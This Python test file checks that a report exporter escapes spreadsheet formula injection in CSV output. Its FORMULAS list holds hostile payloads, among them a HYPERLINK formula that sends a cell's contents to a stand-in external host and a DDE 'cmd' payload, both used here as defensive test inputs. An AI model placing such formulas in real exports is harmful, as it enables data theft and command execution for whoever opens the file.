"""Untrusted text that a spreadsheet would read as a formula."""

from __future__ import annotations

import ast
import csv
from pathlib import Path

from ambidex.host.records.rows import Failure
from ambidex.host.report.csv_file import cell, write_csv_file
from ambidex.host.report.export import write_csv
from ambidex.host.report.failure_sheet import write_sheet
from ambidex.host.report.report_lines import lines
from tests.support.played import row, run_of
from tests.support.tables import every_case

ROOT = Path(__file__).parents[2]

FORMULAS = [
    '=HYPERLINK("https://elsewhere.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "%0A=1",
    "|cmd",
]


@every_case("text", FORMULAS)
def test_a_text_that_begins_like_a_formula_is_a_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@every_case("value", ["plain", "a=b", "", "https://x.example", "{}", 7, -1.5, None])
def test_other_values_are_as_they_are(value: object) -> None:
    assert cell(value) == value


def test_no_cell_begins_behind_a_semicolon_or_a_line_end(tmp_path: Path) -> None:
    """Where a comma is the decimal sign, semicolons separate cells."""
    path = tmp_path / "a.csv"
    write_csv_file(path, ["a", "b"], [{"a": "x;=1+1\n=2", "b": True}])
    assert path.read_bytes() == b'"a","b"\r\n"x;=1+1\n=2","true"\r\n'


@every_case("formula", FORMULAS)
def test_no_file_of_a_report_holds_a_formula(tmp_path: Path, formula: str) -> None:
    played = [
        row("a", beneficial=True, score=0, reason=formula, agent=formula, domain=formula),
        row("b", beneficial=True, score=0).model_copy(
            update={"fate": "void", "failure": Failure(type=formula, message=formula)}
        ),
    ]
    found = lines([run_of(tmp_path / "run", played)])
    write_csv(found, tmp_path / "rows.csv")
    write_sheet(found, tmp_path / "failures.csv")
    for name in ("rows.csv", "failures.csv"):
        with (tmp_path / name).open(newline="", encoding="utf-8") as file:
            cells = [each for record in csv.reader(file) for each in record]
        assert f"'{formula}" in cells
        assert formula not in cells


def test_every_csv_file_is_written_in_one_place() -> None:
    writers = [
        str(path.relative_to(ROOT))
        for package in ("host", "toolgen", "tasks", "bench", "vm")
        for path in (ROOT / package).rglob("*.py")
        if ROOT / "vm" / "images" not in path.parents  # what runs in a guest is for its services
        and _writes_csv(path.read_text(encoding="utf-8"))
    ]
    assert writers == ["host/report/csv_file.py"]


def _writes_csv(source: str) -> bool:
    names = ("writer", "DictWriter", "to_csv")
    return any(name in source for name in names) and any(  # most files need no parsing
        isinstance(node, ast.Attribute) and node.attr in names
        for node in ast.walk(ast.parse(source))
    )
